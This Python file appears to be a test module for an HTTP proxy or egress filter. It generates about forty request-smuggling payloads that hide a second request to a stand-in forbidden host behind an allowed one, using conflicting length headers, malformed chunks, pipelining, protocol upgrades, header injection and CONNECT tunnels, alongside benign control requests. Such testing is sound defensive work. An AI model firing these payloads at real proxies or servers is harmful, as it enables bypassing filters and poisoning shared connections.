"""E-09: a second request behind the first, that nobody looked at. The mark is in the second."""
import way
import wire
from attack import SEEN, Attack

HOST, OTHER = "allowed.example.com", "evil.example.net"
FIRST = "/echo"


def second(mark, host=OTHER):
    return wire.head(f"/{mark}", host, "Connection: close")


def post(*lines, body=b"", target=FIRST, host=HOST, **rest):
    return wire.head(target, host, *lines, method="POST", **rest) + body


def small(mark):
    """Chunks that hold nothing, and the second request behind them."""
    return wire.chunked() + second(mark)


def length(mark):
    return f"Content-Length: {len(small(mark))}"


CHUNKED = "Transfer-Encoding: chunked"
# Pieces of a list are sent one after the other, each when the answer to the one before has come.
SHAPES = (
    ("cl-te", "both lengths, the body in chunks", lambda m: post(length(m), CHUNKED, body=small(m))),
    ("te-cl", "both lengths, in the other order", lambda m: post(CHUNKED, length(m), body=small(m))),
    ("te-cl-0", "both lengths, and the length is 0", lambda m: post("Content-Length: 0", "Transfer-Encoding: xchunked", body=second(m))),
    ("te-odd", "an encoding that some take for chunked", lambda m: post("Transfer-Encoding: xchunked", body=second(m))),
    ("te-te", "two encodings", lambda m: post(CHUNKED, "Transfer-Encoding: identity", body=small(m))),
    ("te-list", "chunked in a list", lambda m: post("Transfer-Encoding: identity, chunked", body=second(m))),
    ("te-space", "a space before the colon", lambda m: post("Content-Length: 0", "Transfer-Encoding : chunked", body=second(m))),
    ("te-tab", "a tab before the value", lambda m: post("Transfer-Encoding:\tchunked", length(m), body=small(m))),
    ("te-vt", "a vertical tab before the value", lambda m: post("Content-Length: 0", "Transfer-Encoding: \vchunked", body=second(m))),
    ("te-fold", "the encoding continued on a new line",
     lambda m: post("Content-Length: 0", "Transfer-Encoding:\r\n chunked", body=second(m))),
    ("te-underscore", "an encoding with an underscore", lambda m: post("Content-Length: 0", "Transfer_Encoding: chunked", body=second(m))),
    ("te-10", "chunks in HTTP/1.0", lambda m: post(CHUNKED, body=small(m), version="HTTP/1.0")),
    ("cl-cl", "two different lengths", lambda m: post("Content-Length: 0", f"Content-Length: {len(second(m))}", body=second(m))),
    ("cl-same", "the same length twice", lambda m: post("Content-Length: 0", "Content-Length: 0", body=second(m))),
    ("cl-plus", "a length with a sign", lambda m: post("Content-Length: +0", body=second(m))),
    ("cl-list", "a list of lengths", lambda m: post("Content-Length: 0, 0", body=second(m))),
    ("cl-zero", "a length with zeros in front", lambda m: post("Content-Length: 00", body=second(m))),
    ("cl-minus", "a length below zero", lambda m: post("Content-Length: -0", body=second(m))),
    ("chunk-extension", "an extension of a chunk", lambda m: post(CHUNKED, body=b"1;x=y\r\na\r\n0\r\n\r\n" + second(m))),
    ("chunk-bare-lf", "chunks with LF alone", lambda m: post(CHUNKED, body=b"1\na\r\n0\r\n\r\n" + second(m))),
    ("chunk-size", "a size with a prefix", lambda m: post(CHUNKED, body=b"0x0\r\n\r\n" + second(m))),
    ("chunk-trailer", "a trailer", lambda m: post(CHUNKED, body=b"0\r\nX: y\r\n\r\n" + second(m))),
    ("chunk-huge", "a size beyond 64 bits", lambda m: post(CHUNKED, body=b"10000000000000000\r\n" + second(m))),
    ("pipelined", "two requests at once", lambda m: wire.head(FIRST, HOST) + second(m)),
    ("pipelined-same", "two requests at once, both for the allowed host", lambda m: wire.head(FIRST, HOST) + second(m, HOST)),
    ("keep-alive", "a second request, after the answer", lambda m: [wire.head(FIRST, HOST, "Connection: keep-alive"), second(m)]),
    ("get-body", "a GET with a length of 0 and a body", lambda m: wire.head(FIRST, HOST, "Content-Length: 0") + second(m)),
    ("body-exact", "a request right behind a body", lambda m: [post("Content-Length: 5", body=b"12345"), second(m)]),
    ("connection-length", "Connection removes the length", lambda m: post("Connection: Content-Length", "Content-Length: 0", body=second(m))),
    ("expect", "Expect, and the body at once", lambda m: post("Expect: 100-continue", "Content-Length: 0", body=second(m))),
    ("expect-odd", "an expectation that is none", lambda m: post("Expect: 100-continued", "Content-Length: 0", body=second(m))),
    ("h2c", "Upgrade: h2c", lambda m: wire.head(FIRST, HOST, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
                                             "HTTP2-Settings: AAMAAABkAAQAAP__") + second(m)),
    ("websocket", "an upgrade that the server refuses",
     lambda m: wire.head(FIRST, HOST, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 777") + second(m)),
    ("websocket-late", "the same, and the second request after the answer",
     lambda m: [wire.head(FIRST, HOST, "Connection: Upgrade", "Upgrade: websocket"), second(m)]),
    ("websocket-body", "an upgrade with a body",
     lambda m: post("Connection: Upgrade", "Upgrade: websocket", "Content-Length: 0", body=second(m))),
    ("upgrade-two", "two upgrades", lambda m: wire.head(FIRST, HOST, "Connection: Upgrade", "Upgrade: websocket, h2c") + second(m)),
    ("upgrade-echo", "an upgrade to a protocol of the server's", lambda m: [wire.head("/upgrade", HOST, "Connection: Upgrade",
                                                                            "Upgrade: echo"), second(m)]),
    ("cr", "a CR alone between lines", lambda m: wire.head(FIRST, HOST, "X: y\rContent-Length: 0") + second(m)),
    ("nul", "a NUL in a value", lambda m: wire.head(FIRST, HOST, "X: \0") + second(m)),
    ("lf-value", "a value with an LF", lambda m: wire.head(FIRST, HOST, "X: y\nContent-Length: 0") + second(m)),
    ("connect", "CONNECT in a tunnel", lambda m: [wire.head(f"{OTHER}:80", HOST, method="CONNECT"), second(m)]),
)
# The server of the world answers these itself with an end, or does not speak that protocol.
NO_CONTROL = {
    "te-10": "the world's server closes after HTTP/1.0", "cl-list": "the world's server refuses it",
    "chunk-bare-lf": "the world's server waits", "chunk-huge": "the world's server waits",
    "upgrade-echo": "the world's server echoes it and does not log it",
}


def send(sock, data):
    return way.say(sock, *(data if isinstance(data, list) else [data]))


def to_proxy(data):
    """The first request in absolute form."""
    first, *rest = data if isinstance(data, list) else [data]
    return [first.replace(b" /", b" http://" + HOST.encode() + b"/", 1), *rest]


def rows():
    for key, text, shape in SHAPES:
        control = NO_CONTROL.get(key, "same")
        yield Attack(f"e09-{key}-tcp", text, lambda m, s=shape: send(way.tcp(HOST, 80), s(m)), control=control)
        yield Attack(f"e09-{key}-connect", f"{text}, in a tunnel", lambda m, s=shape: send(way.connect(HOST, 80), s(m)),
                     control=control)
        yield Attack(f"e09-{key}-absolute", f"{text}, through the proxy", lambda m, s=shape: send(way.dial(way.HTTP), to_proxy(s(m))),
                     control=control if key != "connect" else "no server is asked")


def honest():
    for kind in way.WAYS:
        yield Attack(f"e09-honest-{kind}", f"one request with a body, by {kind}",
                     lambda m, k=kind: send(way.WAYS[k](HOST, 80), post("Content-Length: 5", body=b"12345", target=f"/{m}")),
                     answer=SEEN)
        yield Attack(f"e09-honest-chunks-{kind}", f"one request with chunks, by {kind}",
                     lambda m, k=kind: send(way.WAYS[k](HOST, 80), post(CHUNKED, body=wire.chunked(b"abc", b"de"), target=f"/{m}")),
                     answer=SEEN)


ATTACKS = [*rows(), *honest()]
